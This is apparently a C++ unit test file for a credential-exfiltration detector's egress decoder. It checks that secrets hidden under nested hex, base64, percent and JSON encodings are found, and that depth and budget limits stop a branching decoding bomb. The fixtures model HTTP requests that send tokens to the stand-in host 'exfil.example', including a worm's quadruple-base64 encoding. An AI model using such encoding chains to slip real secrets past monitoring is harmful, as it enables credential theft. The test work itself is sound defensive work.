// Encodings inside encodings, in any order and across JSON fields: each layer is decoded and
// named in `decoding`, four deep and more, while a global budget (8 decoded bytes per input
// byte) and a depth limit keep hostile input bounded, and count where they cut.
#include <gtest/gtest.h>

#include <algorithm>
#include <chrono>
#include <random>

#include "chunk_recorder.h"
#include "compress_support.h"
#include "stream/decoders/egress_decoder.h"

namespace credsentry::stream::decoders {
namespace {

using testing::Base64;
using testing::RandomToken;
using Steps = std::vector<std::string>;

std::string Hex(const std::string& in, bool upper = false) {
  const char* digits = upper ? "0123456789ABCDEF" : "0123456789abcdef";
  std::string out;
  for (unsigned char c : in) out += {digits[c >> 4], digits[c & 15]};
  return out;
}

// URL-safe, unpadded. The "?>>" in front always makes a '-', so the step is named base64url.
std::string Base64Url(const std::string& in) {
  std::string out = Base64("?>>" + in);
  while (!out.empty() && out.back() == '=') out.pop_back();
  for (char& c : out) c = c == '+' ? '-' : c == '/' ? '_' : c;
  return out;
}

// Every byte but letters and digits as %XX.
std::string Percent(const std::string& in) {
  std::string out;
  for (unsigned char c : in) {
    if (std::isalnum(c)) {
      out.push_back(static_cast<char>(c));
    } else {
      out += {'%', "0123456789ABCDEF"[c >> 4], "0123456789ABCDEF"[c & 15]};
    }
  }
  return out;
}

// `in` escaped to sit inside a JSON string, as serializers write it (with "\/").
std::string JsonString(const std::string& in) {
  std::string out;
  for (char c : in) {
    if (c == '"' || c == '\\' || c == '/') out += '\\';
    out += c;
  }
  return out;
}

// A JSON document holding `in`, itself escaped as a JSON string: escapes always appear.
std::string JsonEscaped(const std::string& in) { return JsonString("{\"v\":\"" + in + "\"}"); }

std::string Post(const std::string& content_type, const std::string& body,
                 const std::string& target = "/upload") {
  return "POST " + target + " HTTP/1.1\r\nHost: exfil.example\r\nContent-Type: " + content_type +
         "\r\nContent-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
}

struct Decoded {
  testing::ChunkRecorder recorder;
  DecoderCounters counters;
  size_t derived_bytes = 0;  // everything second-order decoding emitted
};

Decoded Decode(const std::string& wire) {
  EgressDecoder decoder{DecoderLimits{}};
  Decoded out;
  decoder.Feed(testing::Bytes(wire), out.recorder.Sink());
  out.counters = decoder.counters();
  for (const auto& unit : out.recorder.units()) {
    if (unit.layer.starts_with("decoded.")) out.derived_bytes += unit.bytes.size();
  }
  return out;
}

// The steps the unit holding `secret` was reached by, after the protocol's own ones.
Steps StepsTo(const Decoded& d, const std::string& secret, size_t last) {
  const auto* unit = d.recorder.Find(secret);
  if (unit == nullptr) return {"<not found>"};
  const auto& steps = unit->decoding;
  return Steps(steps.end() - static_cast<ptrdiff_t>(std::min(last, steps.size())), steps.end());
}

std::string InJson(const std::string& value) { return "{\"data\":\"" + value + "\"}"; }

TEST(NestedEncodings, HexOfBase64OfPercentOfBase64UrlInAJsonField) {
  const std::string key = RandomToken();
  auto d = Decode(Post("application/json", InJson(Hex(Base64(Percent(Base64Url(key)))))));
  EXPECT_EQ(StepsTo(d, key, 4), (Steps{"hex", "base64", "percent", "base64url"}));
  EXPECT_EQ(d.recorder.Find(key)->decoding.front(), "http1");
}

TEST(NestedEncodings, Base64UrlOfJsonEscapedOfBase64OfPercentInAQuery) {
  const std::string key = RandomToken();
  const std::string value = Base64Url(JsonEscaped(Base64(Percent(key))));
  auto d = Decode(Post("text/plain", "x", "/c?q=" + value));
  EXPECT_EQ(StepsTo(d, key, 4), (Steps{"base64url", "json", "base64", "percent"}));
}

TEST(NestedEncodings, PercentOfBase64OfUpperHexOfBase64UrlInAHeader) {
  const std::string key = RandomToken();
  // The ':' makes sure the outer percent-encoding has something to escape.
  const std::string value = Percent(":" + Base64(Hex(Base64Url(key), true)));
  auto d = Decode("GET / HTTP/1.1\r\nHost: exfil.example\r\nX-Data: " + value + "\r\n\r\n");
  EXPECT_EQ(StepsTo(d, key, 4), (Steps{"percent", "base64", "hex", "base64url"}));
}

TEST(NestedEncodings, FourTimesBase64AsTheWormWritesIt) {
  const std::string key = RandomToken();
  auto d = Decode(Post("application/json",
                       "{\"content\":\"" + Base64(Base64(Base64(Base64(key)))) + "\"}"));
  EXPECT_EQ(StepsTo(d, key, 4), (Steps{"base64", "base64", "base64", "base64"}));
}

// A JSON string value that is itself escaped JSON, whose own field is base64 of JSON holding a
// hex value: every field is followed.
TEST(NestedEncodings, AcrossJsonFields) {
  const std::string key = RandomToken();
  const std::string inner = "{\"token\":\"" + Hex(key) + "\"}";
  const std::string middle = "{\"blob\":\"" + Base64(inner) + "\",\"n\":1}";
  auto d = Decode(Post("application/json", "{\"outer\":\"" + JsonString(middle) + "\"}"));
  EXPECT_EQ(StepsTo(d, key, 3), (Steps{"json", "base64", "hex"}));
}

TEST(NestedEncodings, SixLevelsAreDecodedDeeperIsCountedNotDecoded) {
  const std::string key = RandomToken();
  std::string six = key, eight;
  for (int i = 0; i < 6; ++i) six = Base64(six);
  eight = Base64(Base64(six));
  auto shallow = Decode(Post("application/json", "{\"d\":\"" + six + "\"}"));
  EXPECT_NE(shallow.recorder.Find(key), nullptr);
  EXPECT_EQ(shallow.counters.transform_depth_exceeded, 0u);

  auto deep = Decode(Post("application/json", "{\"d\":\"" + eight + "\"}"));
  EXPECT_EQ(deep.recorder.Find(key), nullptr);
  EXPECT_EQ(deep.counters.transform_depth_exceeded, 1u);
  EXPECT_EQ(deep.counters.transform_budget_exhausted, 0u);
}

// Percent-escapes and JSON escapes that each survive the other's decoding make every level
// branch in two: without the budget the work doubles per level.
TEST(NestedEncodings, BranchingBombStopsAtTheBudget) {
  std::string piece = "%25252525252541 " + std::string(64, '\\') + "n ";
  std::string body = "{\"a\":\"";
  while (body.size() < 64 * 1024) body += piece;
  body += "\"}";
  auto d = Decode(Post("application/json", body));
  EXPECT_EQ(d.counters.transform_budget_exhausted, 1u);
  EXPECT_LE(d.derived_bytes, 8 * body.size());
}

TEST(NestedEncodings, EncodedChainsWellWithinTheBudgetAreNotCut) {
  const std::string key = RandomToken();
  auto d = Decode(Post("application/json", InJson(Hex(Base64(Percent(Base64Url(key)))))));
  EXPECT_NE(d.recorder.Find(key), nullptr);
  EXPECT_EQ(d.counters.transform_budget_exhausted, 0u);
  EXPECT_EQ(d.counters.transform_depth_exceeded, 0u);
}

// Hex and base64 runs of random bytes decode to garbage: judged on their first bytes, dropped,
// and nothing is emitted for them.
TEST(NestedEncodings, LongRandomRunsStayCheapAndEmitNothing) {
  std::mt19937_64 rng(7);
  std::string random(96 * 1024, '\0');
  for (char& c : random) c = static_cast<char>(rng());
  const std::string body = "{\"h\":\"" + Hex(random) + "\",\"H\":\"" + Hex(random, true) +
                           "\",\"b\":\"" + Base64(random) + "\"}";
  auto start = std::chrono::steady_clock::now();
  auto d = Decode(Post("application/json", body));
  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(2));
  EXPECT_EQ(d.derived_bytes, 0u);
  EXPECT_EQ(d.counters.transform_budget_exhausted, 0u);
}

// Many small encoded values: at most 512 derived units per text, the rest counted.
TEST(NestedEncodings, ManyNestedValuesAreCappedAndCounted) {
  std::string body = "{";
  for (int i = 0; i < 2000; ++i) {
    body += "\"k" + std::to_string(i) + "\":\"" + Hex(Base64(RandomToken(24))) + "\",";
  }
  body += "\"end\":1}";
  auto d = Decode(Post("application/json", body));
  EXPECT_LE(d.recorder.units().size(), 512u + 16u);
  EXPECT_EQ(d.counters.transform_truncated, 1u);
  EXPECT_LE(d.derived_bytes, 8 * body.size());
}

// Hex has to look like an encoder's output: mixed case, odd length or short runs are ids.
TEST(NestedEncodings, HexRunsThatNoEncoderWritesAreLeftAlone) {
  const std::string text = "plain text that is long enough";  // 30 bytes: 60 hex digits
  std::string mixed = Hex(text);
  // Second digits of every other byte: letters there turn upper, the others' stay lower.
  for (size_t i = 1; i < mixed.size(); i += 4) mixed[i] = static_cast<char>(std::toupper(mixed[i]));
  auto d = Decode(Post("application/json", "{\"a\":\"" + mixed + "\",\"b\":\"" +
                                               Hex(text).substr(1) + "\",\"c\":\"" +
                                               Hex("short text", true) + "\"}"));
  EXPECT_EQ(d.recorder.Find(text), nullptr);
  EXPECT_EQ(d.recorder.Find("short text"), nullptr);
  auto good = Decode(Post("application/json", "{\"a\":\"" + Hex(text, true) + "\"}"));
  EXPECT_NE(good.recorder.Find(text, "decoded.hex"), nullptr);
}

}  // namespace
}  // namespace credsentry::stream::decoders
